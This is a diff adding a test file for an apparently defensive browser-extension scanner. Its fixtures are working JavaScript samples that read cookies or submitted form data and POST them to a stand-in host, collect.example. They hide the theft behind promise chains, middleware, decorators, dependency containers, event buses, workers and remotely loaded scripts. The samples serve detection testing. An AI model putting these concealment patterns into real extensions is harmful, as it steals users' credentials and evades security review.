@@ -1,0 +1,100 @@
+import { expect, it } from 'vitest';
+import { analyze } from '../analyze.ts';
+import { memoryTree } from '../sources/memory.ts';
+import { graded } from '../testing/graded.ts';
+
+/*
+ * Ways of well-made programs: what is taken and what sends it are handed to one another by code that composes them
+ * (chains, containers, decorators, generators), each beside the same program with nothing taken.
+ */
+
+const SEND = "fetch('https://collect.example/x', { method: 'POST', body: JSON.stringify(DATA) })";
+const send = (data: string): string => SEND.replace('DATA', data);
+const TAKEN = 'chrome.cookies.getAll({})';
+
+it.each<[string, (data: string) => string]>([
+  [
+    'steps that a chain of promises is made of',
+    (data) =>
+      `const chain = (...steps) => (x) => steps.reduce((all, step) => all.then(step), Promise.resolve(x)); const run = chain((a) => ${data}, (l) => ${send('l')}); chrome.alarms.onAlarm.addListener(() => run(1));`,
+  ],
+  [
+    'layers that are handed the same object and call the next',
+    (data) =>
+      `const compose = (layers) => (ctx) => { const go = (i) => { const fn = layers[i]; return fn ? Promise.resolve(fn(ctx, () => go(i + 1))) : Promise.resolve(); }; return go(0); }; const app = { layers: [], use(f) { this.layers.push(f); }, run(ctx) { return compose(this.layers)(ctx); } }; app.use(async (ctx, next) => { ctx.all = await ${data}; await next(); }); app.use(async (ctx, next) => { await ${send('ctx.all')}; await next(); }); chrome.alarms.onAlarm.addListener(() => app.run({}));`,
+  ],
+  [
+    'layers around a function, from the last to the first',
+    (data) =>
+      `const tell = (store) => (next) => (action) => { ${send('action')}; return next(action); }; function create(reduce, layers) { let state = reduce(undefined, {}); let dispatch = (a) => { state = reduce(state, a); return a; }; const api = { dispatch: (a) => dispatch(a) }; dispatch = layers.map((layer) => layer(api)).reduceRight((next, layer) => layer(next), dispatch); return api; } const store = create((s = {}, a) => ({ ...s, ...a }), [tell]); (async () => { const all = await ${data}; store.dispatch({ type: 'all', all }); })();`,
+  ],
+  [
+    'a generator that is handed on',
+    (data) =>
+      `function* relay() { for (;;) { const got = yield; ${send('got')}; } } const prime = (g) => (g.next(), g); const out = prime(relay()); (async () => out.next(await ${data}))();`,
+  ],
+  [
+    'a decorator, as compilers write it',
+    (data) =>
+      `function traced(t, k, d) { const inner = d.value; d.value = async function (...a) { const r = await inner.apply(this, a); ${send('r')}; return r; }; return d; } class Jar { async all() { return ${data}; } } __decorate([traced], Jar.prototype, 'all', null); const jar = new Jar(); chrome.alarms.onAlarm.addListener(() => jar.all());`,
+  ],
+  [
+    'parts that a registry makes for one another',
+    (data) =>
+      `class Registry { constructor() { this.items = new Map(); } add(n, needs, make) { this.items.set(n, { needs, make }); return this; } get(n) { const it = this.items.get(n); it.value ??= it.make(...it.needs.map((d) => this.get(d))); return it.value; } } const parts = new Registry().add('net', [], () => ({ post: (b) => ${send('b')} })).add('job', ['net'], (net) => ({ async run() { net.post(await ${data}); } })); chrome.alarms.onAlarm.addListener(() => parts.get('job').run());`,
+  ],
+  [
+    'classes that a container hands to one another',
+    (data) =>
+      `class Net { post(b) { return ${send('b')}; } } class Job { constructor(net) { this.net = net; } async run() { this.net.post(await ${data}); } } Job.needs = [Net]; const made = new Map(); const get = (C) => { if (!made.has(C)) made.set(C, new C(...(C.needs || []).map(get))); return made.get(C); }; chrome.alarms.onAlarm.addListener(() => get(Job).run());`,
+  ],
+  [
+    'events whose names both who raises and who hears are handed',
+    (data) =>
+      `class Bus extends EventTarget { tell(n, d) { this.dispatchEvent(new CustomEvent(n, { detail: d })); } hear(n, f) { this.addEventListener(n, (e) => f(e.detail)); } } const bus = new Bus(); bus.hear('all', (l) => ${send('l')}); (async () => bus.tell('all', await ${data}))();`,
+  ],
+])('%s', async (_, program) => {
+  expect(await graded({ background: program(TAKEN) })).toBe('F');
+  expect(await graded({ background: program('Promise.resolve([1, 2])') })).toMatch(/^A/);
+});
+
+const scanned = async (files: Record<string, string>): Promise<string> => {
+  const manifest = {
+    manifest_version: 3,
+    name: 'Notes',
+    version: '1.0',
+    content_scripts: [{ matches: ['<all_urls>'], js: ['content.js'] }],
+    web_accessible_resources: [{ resources: ['*.js'], matches: ['<all_urls>'] }],
+  };
+  const tree = memoryTree({ 'manifest.json': JSON.stringify(manifest), ...files });
+  return (await analyze(tree, { kind: 'extension' })).score.grade;
+};
+
+it('an attribute of the page that scripts of two worlds tell each other by', async () => {
+  const content = `const el = document.createElement('script'); el.src = chrome.runtime.getURL('page.js'); document.head.append(el); new MutationObserver(() => { const got = document.documentElement.getAttribute('data-state'); if (got) ${send('got')}; }).observe(document.documentElement, { attributes: true });`;
+  const page = (data: string): string =>
+    `document.addEventListener('submit', (e) => document.documentElement.dataset.state = ${data}, true);`;
+  const filled = '[...new FormData(e.target)].join()';
+  expect(await scanned({ 'content.js': content, 'page.js': page(filled) })).toMatch(/^[DF]/);
+  expect(await scanned({ 'content.js': content, 'page.js': page("'sent'") })).toMatch(/^A/);
+  // Kept under another name.
+  const other = page(filled).replace('dataset.state', 'dataset.other');
+  expect(await scanned({ 'content.js': content, 'page.js': other })).toMatch(/^A/);
+});
+
+it('a worker whose address is made at run time', async () => {
+  const content = (data: string): string =>
+    `class Pool { constructor(src) { this.w = new Worker(src); } run(job, args) { this.w.postMessage({ job, ...args }); } } (async () => { const code = await (await fetch(chrome.runtime.getURL('worker.js'))).blob(); new Pool(URL.createObjectURL(new Blob([code]))).run('pack', { data: ${data} }); })();`;
+  const worker = `const jobs = { pack: async ({ data }) => ${send('data')} }; self.onmessage = async (e) => { const { job, ...rest } = e.data; await jobs[job](rest); };`;
+  expect(await scanned({ 'content.js': content('document.cookie'), 'worker.js': worker })).toMatch(/^[CDF]/);
+  expect(await scanned({ 'content.js': content("'ready'"), 'worker.js': worker })).toMatch(/^A/);
+});
+
+it('a script whose address stands where a setting is read', async () => {
+  const content =
+    "chrome.runtime.sendMessage('skin', (r) => { const s = document.createElement('script'); s.src = r.skin + '?h=1'; document.documentElement.append(s); });";
+  const background = (skin: string): string =>
+    `chrome.runtime.onMessage.addListener((m, s, reply) => { chrome.storage.local.get({ skin: '${skin}' }, (r) => reply({ skin: r.skin })); return true; });`;
+  expect(await graded({ content, background: background('https://skins.example/base.js') })).toMatch(/^[CDF]/);
+  expect(await graded({ content, background: background('plain') })).toMatch(/^A/);
+});
